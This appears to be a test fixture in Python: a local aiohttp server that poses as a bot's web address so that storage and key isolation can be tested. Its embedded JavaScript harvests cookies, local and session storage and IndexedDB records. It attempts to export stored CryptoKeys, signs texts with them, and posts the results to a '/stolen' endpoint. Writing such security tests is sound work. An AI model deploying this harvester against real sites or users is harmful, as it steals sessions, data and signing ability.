"""Another program at the address of the bot: it shows its own page and steals what it can."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from typing import Any

from aiohttp import WSMsgType, web

# Reads all that a page at this address can read, and lets every key sign the given texts.
_STEAL = """
const stolen = { cookies: document.cookie, address: location.href, signed: [], exported: [],
    stored: JSON.stringify([{ ...localStorage }, { ...sessionStorage }]), records: [], keys: 0 };
const done = (asked) => new Promise((resolve, reject) => {
    asked.onsuccess = () => resolve(asked.result);
    asked.onerror = () => reject(asked.error);
});
const inside = (value) => value instanceof CryptoKey ? [value]
    : value && typeof value === "object" ? Object.values(value).flatMap(inside) : [];
const wrapping = await crypto.subtle.generateKey(
    { name: "AES-GCM", length: 256 }, true, ["wrapKey", "unwrapKey"]);
const bytes = (buffer) => btoa(String.fromCharCode(...new Uint8Array(buffer)))
    .replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
for (const { name } of await indexedDB.databases()) {
    const database = await done(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
        for (const record of await done(database.transaction(store).objectStore(store).getAll())) {
            stolen.records.push(record);
            for (const key of inside(record)) {
                stolen.keys += 1;
                for (const format of ["raw", "jwk", "pkcs8", "spki"]) {
                    await crypto.subtle.exportKey(format, key)
                        .then((out) => stolen.exported.push(format), () => undefined);
                    const way = { name: "AES-GCM", iv: new Uint8Array(12) };
                    await crypto.subtle.wrapKey(format, key, wrapping, way)
                        .then(() => stolen.exported.push(`wrapped ${format}`), () => undefined);
                }
                for (const text of TO_SIGN) {
                    const data = new TextEncoder().encode(text);
                    stolen.signed.push([text, bytes(await crypto.subtle.sign("HMAC", key, data))]);
                }
            }
        }
    }
    database.close();
}
PLANT
await fetch("/stolen", { method: "POST", body: JSON.stringify(stolen) });
"""


class HostileServer:
    """`received` is all that was sent to this server; `stolen` is what its page could read."""

    def __init__(self, to_sign: Sequence[str] = (), plant: str = "", cache: str = "") -> None:
        self._script = _STEAL.replace("TO_SIGN", json.dumps(list(to_sign))).replace("PLANT", plant)
        self._cache = {"Cache-Control": cache} if cache else {}
        self.received: list[str] = []
        self.stolen: asyncio.Queue[dict[str, Any]] = asyncio.Queue()
        self.worker = ""

    async def answer(self, request: web.Request) -> web.StreamResponse:
        body = await request.text()
        self.received.append(f"{request.method} {request.raw_path} {dict(request.headers)} {body}")
        match request.path:
            case "/stolen":
                self.stolen.put_nowait(json.loads(body))
                return web.Response()
            case "/worker.js":
                return self._text(self.worker, "text/javascript")
            case "/api/challenge":
                return web.json_response({"challenge": "c", "proof": "cA"})
            case "/api/session":
                return web.json_response({"session": "s", "bot": "cA"})
            case "/api/socket":
                return await self._socket(request)
            case path if path.endswith(".js"):
                return self._text(self._script, "text/javascript")
            case _:
                page = f'<title>Mine</title><script type="module">{self._script}</script>'
                return self._text(page, "text/html")

    def _text(self, text: str, kind: str) -> web.Response:
        return web.Response(text=text, content_type=kind, headers=self._cache)

    async def _socket(self, request: web.Request) -> web.WebSocketResponse:
        socket = web.WebSocketResponse(protocols=("ollim",))
        await socket.prepare(request)
        hello = {"type": "hello", "proof": "cA", "status": {}, "commands": [], "change": 0}
        await socket.send_json({**hello, "messages": [], "missed": [], "live": None, "read": None})
        async for said in socket:
            if said.type is WSMsgType.TEXT:
                self.received.append(said.data)
        return socket


@asynccontextmanager
async def serving(server: HostileServer, port: int = 0) -> AsyncIterator[int]:
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", server.answer)
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", port, reuse_address=True).start()
        yield runner.addresses[0][1]
    finally:
        await runner.cleanup()
